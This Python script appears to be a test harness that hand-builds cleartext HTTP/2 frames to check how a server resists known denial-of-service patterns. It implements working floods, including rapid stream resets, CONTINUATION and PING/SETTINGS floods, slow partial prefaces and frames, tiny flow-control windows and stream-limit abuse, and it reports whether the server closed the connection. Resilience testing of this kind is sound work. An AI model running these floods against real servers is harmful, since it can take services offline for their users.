#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""floods.py HOST PORT FILE ATTACK: HTTP/2 without TLS as no client should use it, written frame by frame.
Prints how the connection ended: the code of GOAWAY, "closed" or "open"; then waits for the file."""
import os
import select
import socket
import struct
import sys
import time

HOST, PORT, ATTACK = sys.argv[1], int(sys.argv[2]), sys.argv[4]
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
WINDOW = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def text(s):
    n = len(s)
    if n < 127:
        return bytes([n]) + s
    n -= 127
    out = b"\x7f"
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n]) + s


def head(path=b"/", extra=0):
    block = b"\x82\x86" + b"\x04" + text(path) + b"\x01" + text(b"%s:%d" % (HOST.encode(), PORT))
    if extra:
        block += b"\x00" + text(b"x") + text(b"a" * extra)
    return block


class Ended(Exception):
    pass


class Client:
    code = None

    def __init__(self, settings=b"", preface=True):
        self.s = socket.create_connection((HOST, PORT))
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.frames = []
        if preface:
            self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """Sends all of it, unless the other side takes nothing for two seconds."""
        self.s.settimeout(2)
        try:
            self.s.sendall(data)
        except TimeoutError:
            return False
        except OSError:
            raise Ended from None
        return True

    def read(self, seconds):
        """Takes what comes within the time. Raises Ended at the end of the connection."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            if not select.select([self.s], [], [], left)[0]:
                return
            try:
                got = self.s.recv(65536)
            except OSError:
                raise Ended from None
            if not got:
                raise Ended
            self.buf += got
            while len(self.buf) >= 9 and len(self.buf) >= 9 + (n := int.from_bytes(self.buf[:3], "big")):
                kind, payload = self.buf[3], self.buf[9:9 + n]
                self.frames.append(kind)
                if kind == GOAWAY:
                    Client.code = int.from_bytes(payload[4:8], "big")
                self.buf = self.buf[9 + n:]

    def streams(self, n, block, then=b"", flags=END_STREAM, first=0):
        for i in range(first, n):
            stream = 2 * i + 1
            self.send(frame(HEADERS, END_HEADERS | flags, stream, block) +
                      (frame(RST, 0, stream, then) if then else b""))


def cancelled():
    c = Client()
    c.read(0.3)
    c.streams(3000, head(), struct.pack("!I", 8))
    return c


def large_heads():
    """Requests that wait, because the server takes nothing."""
    c = Client()
    c.streams(1, head())
    c.read(0.5)
    c.streams(100, head(extra=16000), first=1)
    return c


def unread_answers():
    c = Client()
    c.streams(800, head(b"/denied" + b"x" * 200), struct.pack("!I", 8))
    return c


def unfinished_head():
    c = Client()
    c.send(frame(HEADERS, END_STREAM, 1, head()))
    for _ in range(8):
        c.read(0.5)
        c.send(frame(CONTINUATION, 0, 1, b"\x00" + text(b"x") + text(b"y")))
    return c


def unfinished_frame():
    c = Client()
    data = frame(HEADERS, END_HEADERS | END_STREAM, 1, head(extra=100))
    for i in range(40):
        c.send(data[i:i + 1])
        c.read(0.2)
    return c


def unfinished_preface():
    c = Client(preface=False)
    for byte in b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n":
        c.send(bytes([byte]))
        c.read(0.2)
    return c


def continuations():
    c = Client()
    c.send(frame(HEADERS, END_STREAM, 1, head()))
    for _ in range(20000):
        c.send(frame(CONTINUATION, 0, 1, b"\x00" + text(b"x") + text(b"a" * 500)))
    return c


def pings():
    c = Client()
    for _ in range(400):
        if not c.send(frame(PING, 0, 0, b"12345678") * 1000):
            break
    return c


def settings():
    c = Client()
    for _ in range(400):
        if not c.send(frame(SETTINGS, 0, 0) * 1000):
            break
    return c


def tiny_windows():
    c = Client(struct.pack("!HI", WINDOW, 1))
    c.streams(100, head(b"/big"))
    c.read(1)
    return c


def kept_open():
    """More streams than are allowed, none of which ends."""
    c = Client()
    c.read(0.3)
    c.streams(100, head(), flags=0)
    c.read(0.5)
    print(ATTACK, "refused", c.frames.count(RST), flush=True)
    return c


try:
    held = globals()[ATTACK]()
    held.read(3)
    print(ATTACK, "open", flush=True)
except Ended:
    print(ATTACK, "closed" if Client.code is None else f"GOAWAY {Client.code}", flush=True)
while not os.path.exists(sys.argv[3]):
    time.sleep(0.1)
